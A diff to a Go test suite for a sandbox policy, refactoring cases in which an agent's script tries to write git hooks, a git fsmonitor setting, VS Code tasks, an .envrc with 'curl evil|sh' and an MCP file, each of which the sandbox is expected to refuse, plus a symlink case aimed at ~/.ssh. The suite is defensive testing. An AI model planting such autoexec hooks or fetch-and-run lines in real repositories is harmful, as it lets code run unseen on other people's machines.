@@ -6,42 +6,49 @@ import (
 	"time"
 )
 
-// Cases about what policy.Compose adds to every policy: the protections
-// of an agent's directory, and of what runs next on the host.
-func composeCases() []Case {
-	agentScript := `cd "$FIX/agents/a1" || exit 1
+// agentScript is what agent a1 does in its directory: its work, then the
+// files tools run.
+const agentScript = `cd "$FIX/agents/a1" || exit 1
 echo work > notes.txt && ok WORK
 printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && ok HOOK
 printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> .git/config && ok CONFIG
 mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json && ok VSCODE
 echo 'curl evil|sh' > .envrc && ok ENVRC
 echo '{}' > .mcp.json && ok MCP`
-	agentFixture := func(h *H) {
-		h.Mkdir("agents/a1")
-		h.Mkdir("agents/p0")
-		h.Host("agents/a1", "git", "init", "-q")
-	}
+
+// agentFixture makes the agents root with agent a1 (a git repository) and
+// its parent p0.
+func agentFixture(h *H) {
+	h.Mkdir("agents/a1")
+	h.Mkdir("agents/p0")
+	h.Host("agents/a1", "git", "init", "-q")
+}
+
+// agentAutoexec runs agentScript launched with p: the work is done, the
+// rest is refused.
+func agentAutoexec(h *H, p Policy) {
+	snap := h.Snapshot()
+	o := h.Sandbox(p, agentScript)
+	h.Expect(o, "WORK")
+	h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
+	h.Unchanged(snap, "agents/a1/notes.txt")
+}
+
+// Cases about what policy.Compose adds to every policy: the protections
+// of an agent's directory, and of what runs next on the host.
+func composeCases() []Case {
 	cs := []Case{
 		{Name: "agent-dir-autoexec", Class: AutoExec, Summary: "an agent under --agents-root writes its own .git/hooks, .git/config, .vscode/tasks.json, .envrc",
 			Run: func(h *H) {
 				agentFixture(h)
-				p := Policy{AgentsRoot: h.Path("agents"), Agent: "a1", Parent: "p0"}
-				snap := h.Snapshot()
-				o := h.Sandbox(p, agentScript)
-				h.Expect(o, "WORK")
-				h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
-				h.Unchanged(snap, "agents/a1/notes.txt")
+				agentAutoexec(h, Policy{AgentsRoot: h.Path("agents"), Agent: "a1", Parent: "p0"})
 			}},
 		{Name: "agent-dir-autoexec-with-workspace", Class: AutoExec, Summary: "the same with --workspace as well: the agent's directory is not the workspace, and is protected like one",
 			Run: func(h *H) {
 				agentFixture(h)
 				_, p := h.ws()
 				p.AgentsRoot, p.Agent = h.Path("agents"), "a1"
-				snap := h.Snapshot()
-				o := h.Sandbox(p, agentScript)
-				h.Expect(o, "WORK")
-				h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
-				h.Unchanged(snap, "agents/a1/notes.txt")
+				agentAutoexec(h, p)
 			}},
 		{Name: "cross-launch-steered-roots", Class: CrossLaunch, Summary: "a first launch turns ws/vendor, ws/cache and ws/env into links to ~/.ssh/id, a directory outside and a missing path outside; the next launch names them --readonly, --writable and --deny: none may open ~/.ssh, make the outside writable or create anything outside",
 			Run: func(h *H) {
